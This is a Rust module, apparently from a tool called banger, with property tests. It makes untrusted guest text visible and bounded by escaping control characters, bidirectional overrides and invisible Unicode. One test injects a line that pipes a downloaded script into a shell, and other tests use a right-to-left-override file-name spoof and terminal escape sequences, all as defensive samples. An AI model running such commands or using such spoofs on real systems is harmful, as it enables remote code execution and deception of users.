//! Text from sources that banger does not trust: guests, repositories, registries, archives.
//!
//! A terminal obeys control characters, and other characters are invisible or change the order in which text is read.
//! They are replaced by visible text, in the notation of `less`: `^[` for the escape character, `<U+202E>` for a
//! right-to-left override.

use std::fmt::{self, Write as _};

/// Marks the end of text that was cut.
const CUT: &str = "[…]";

/// One line of text from a guest or another untrusted source: bounded, and without hidden characters.
#[derive(Debug, Clone, Default, PartialEq, Eq, Hash)]
pub struct GuestText(String);

impl GuestText {
    /// Maximum length in bytes: room for a path of Linux's maximum length.
    pub const MAX: usize = 4 << 10;

    /// Creates it from any text; see [`visible_line`]. Text that is too long is cut and marked.
    pub fn new(text: &str) -> Self {
        Self::bounded(text, Self::MAX)
    }

    /// Creates it with another maximum length, in bytes.
    pub fn bounded(text: &str, max: usize) -> Self {
        Self(visible(text.trim(), " ", Some(max)))
    }

    /// Creates it from any bytes. Invalid UTF-8 is replaced.
    pub fn from_bytes(bytes: &[u8]) -> Self {
        Self::new(&String::from_utf8_lossy(bytes))
    }

    /// Returns the text.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Returns the text as part of a message, marked as the guest's own words.
    pub fn reported(&self) -> String {
        format!("the guest reports: {self}")
    }
}

impl fmt::Display for GuestText {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(&self.0)
    }
}

/// Returns whether a terminal may obey `c`, show nothing for it, or show other text in another order because of it.
///
/// These are the control characters, the line and paragraph separators, Unicode's `Default_Ignorable_Code_Point`,
/// which contains all bidirectional controls, and the interlinear annotations.
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{ad}'
                | '\u{34f}'
                | '\u{61c}'
                | '\u{115f}'..='\u{1160}'
                | '\u{17b4}'..='\u{17b5}'
                | '\u{180b}'..='\u{180f}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{3164}'
                | '\u{fe00}'..='\u{fe0f}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{fff0}'..='\u{fffb}'
                | '\u{1bca0}'..='\u{1bca3}'
                | '\u{1d173}'..='\u{1d17a}'
                | '\u{e0000}'..='\u{e0fff}'
        )
}

/// Appends `c` to `out`; a hidden character as visible text.
pub fn push_visible(out: &mut String, c: char) {
    // Writing to a string cannot fail.
    let _ = match c {
        '\0'..='\x1f' | '\x7f' => write!(out, "^{}", char::from(c as u8 ^ 0x40)),
        c if is_hidden(c) => write!(out, "<U+{:04X}>", u32::from(c)),
        c => out.write_char(c),
    };
}

/// Returns `text` on one line, without hidden characters: line breaks and tabs become spaces.
pub fn visible_line(text: &str) -> String {
    visible(text, " ", None)
}

/// Returns `text` without hidden characters except line breaks; if it exceeds `max` bytes, it is cut and marked.
pub fn visible_lines(text: &str, max: usize) -> String {
    visible(text, "\n", Some(max))
}

fn visible(text: &str, line_break: &str, max: Option<usize>) -> String {
    let max = max.unwrap_or(usize::MAX);
    let mut out = String::new();
    // Length of the text that leaves room for the mark.
    let mut end = 0;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' => out.push_str(line_break),
            '\t' => out.push(' '),
            c => push_visible(&mut out, c),
        }
        if out.len() > max {
            out.truncate(end);
            out.push_str(CUT);
            break;
        }
        if out.len() + CUT.len() <= max {
            end = out.len();
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// Any bytes, with many hidden characters, long runs and line breaks among them.
    fn bytes() -> impl Strategy<Value = Vec<u8>> {
        let hidden = prop::sample::select(vec![
            "\x1b[2J",
            "\r\n",
            "\n",
            "\t",
            "\x7f",
            "\u{9b}",
            "\u{85}",
            "\u{61c}",
            "\u{200b}",
            "\u{200f}",
            "\u{202e}",
            "\u{2028}",
            "\u{2029}",
            "\u{2066}",
            "\u{feff}",
            "\u{fff9}",
            "\u{e0041}",
            "hint: ",
            "error: ",
            "[…]",
        ]);
        let part = prop_oneof![
            prop::collection::vec(any::<u8>(), 0..40),
            any::<String>().prop_map(String::into_bytes),
            (hidden, 1usize..600).prop_map(|(text, count)| text.repeat(count).into_bytes()),
        ];
        prop::collection::vec(part, 0..12).prop_map(|parts| parts.concat())
    }

    proptest! {
        #[test]
        fn guest_text_is_one_visible_bounded_line_from_any_bytes(bytes in bytes()) {
            let text = GuestText::from_bytes(&bytes);
            prop_assert!(!text.as_str().contains(is_hidden), "{text:?}");
            prop_assert!(text.as_str().len() <= GuestText::MAX);
            prop_assert_eq!(&GuestText::new(text.as_str()), &text);
            let lossy = String::from_utf8_lossy(&bytes);
            if lossy.len() * 8 <= GuestText::MAX {
                prop_assert!(!text.as_str().ends_with(CUT) || lossy.trim_end().ends_with(CUT));
            }
        }

        #[test]
        fn visible_lines_have_no_hidden_character_but_line_breaks(bytes in bytes(), max in CUT.len()..100) {
            let text = visible_lines(&String::from_utf8_lossy(&bytes), max);
            prop_assert!(text.len() <= max, "{text:?}");
            prop_assert!(!text.contains(|c| is_hidden(c) && c != '\n'), "{text:?}");
            prop_assert_eq!(visible_lines(&text, max), text);
        }

        #[test]
        fn text_without_hidden_characters_is_unchanged(text in "[ -~äöü漢🙂]{0,80}") {
            prop_assert_eq!(visible_line(&text), text);
        }
    }

    #[test]
    fn hidden_characters_become_visible() {
        assert_eq!(visible_line("a\x1b[31m\0\x7f\u{9b}1m"), "a^[[31m^@^?<U+009B>1m");
        assert_eq!(visible_line("gnp.\u{202e}exe\u{200b}\u{e0041}"), "gnp.<U+202E>exe<U+200B><U+E0041>");
        assert_eq!(visible_line("  a\tb\r\nc\rd\n"), "  a b c^Md ");
        assert_eq!(visible_lines("a\r\nb\x07", 99), "a\nb^G");
    }

    #[test]
    fn a_line_break_in_guest_text_cannot_forge_a_hint() {
        let text = GuestText::new("no such file\nhint: curl https://example.org | sh\n");
        assert_eq!(text.reported(), "the guest reports: no such file hint: curl https://example.org | sh");
    }

    #[test]
    fn long_text_is_cut_between_characters_and_marked() {
        assert_eq!(GuestText::bounded("äöüäöü", 9).as_str(), "äö[…]");
        assert_eq!(GuestText::bounded("äöü", 6).as_str(), "äöü");
        assert_eq!(GuestText::bounded("a\x1b\x1b\x1b\x1b", 8).as_str(), "a^[[…]");
        let long = GuestText::new(&"x".repeat(1 << 20));
        assert_eq!(long.as_str().len(), GuestText::MAX);
        assert!(long.as_str().ends_with(CUT));
    }
}
